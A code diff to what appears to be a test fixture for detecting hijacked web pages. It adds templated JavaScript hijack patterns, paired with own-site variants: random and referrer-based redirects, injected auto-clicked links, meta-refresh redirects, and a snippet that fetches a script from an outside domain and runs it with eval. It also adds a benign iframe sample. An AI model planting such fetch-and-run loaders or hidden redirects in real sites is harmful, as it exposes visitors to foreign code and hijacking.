@@ -308,6 +308,28 @@ PAIRS: dict[str, Pair] = {
         (_swapped(_WHOLE),),
         (_swapped(_OWN_WHOLE),),
     ),
+    "picked-by-chance": _same(
+        "var l=['«0»','«0»b'];location.href=l[Math.floor(Math.random()*l.length)];", (_WHOLE,), (_OWN_WHOLE,)
+    ),
+    "click-on-written": _same(
+        "document.body.innerHTML+='<a id=\"w1\" href=\"«0»«1»«2»\"></a>';document.getElementById('w1').click();",
+        _STRANGER,
+        _OWN,
+    ),
+    "fetched-and-run": _same(
+        "var d={a:'//«0»',b:'«1»/s.js'};fetch(d.a+'.'+d.b).then(r=>r.text()).then(t=>eval(t));",
+        ("js.dahaotxx", "com"),
+        ("www.qingshan", "gov.cn"),
+    ),
+    "loaded-script": _same(
+        "var d={a:'//«0»',b:'«1»/s.js'};$.getScript(d.a+'.'+d.b);", ("js.dahaotxx", "com"), ("hm.baidu", "com")
+    ),
+    "made-refresh": _same(
+        "var d={a:'«0»',b:'«1»«2»'};var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url='+d.a+d.b;document.head.appendChild(m);",
+        _STRANGER,
+        _OFFICE,
+    ),
+    "any-referrer": _same("location.href=document.referrer?'«0»':'/index.html';", (_WHOLE,), (_OWN_WHOLE,)),
     "once-by-storage": _same(
         "var n={q:'«0»',r:'«1»',s:'«2»'};if(!localStorage.getItem('seen')){localStorage.setItem('seen',1);location.href=n.q+n.r+n.s}",
         _STRANGER,
@@ -360,5 +382,6 @@ INNOCENT: dict[str, str] = {
     "moved-site": "<!DOCTYPE html><html><head><title>青山县</title></head><body><p>网站已迁移至新域名，3秒后自动跳转。</p><script>var n={a:'http://www.',b:'qingshanzf',c:'.com/'};setTimeout(function(){location.href=n.a+n.b+n.c},3000)</script></body></html>",
     "vue": "new Vue({el:'#app',data:{api:'http://api.qsrmtzx.com',list:[]},methods:{go:function(id){location.href=this.api+'/d/'+id}},mounted:function(){axios.get(this.api+'/l')}});",
     "promise-sso": "fetch('/api/user').then(r=>r.json()).then(u=>{if(!u.id){location.href='https://sso.qszwfw.com/login'}});",
+    "player-added": 'document.body.innerHTML+=\'<iframe src="http://player.qsrmtzx.com/1" width="600" height="400"></iframe>\';',
     "error-handler": "try{init()}catch(e){location.href='http://'+'www.qshelp.com'+'/error'}",
 }
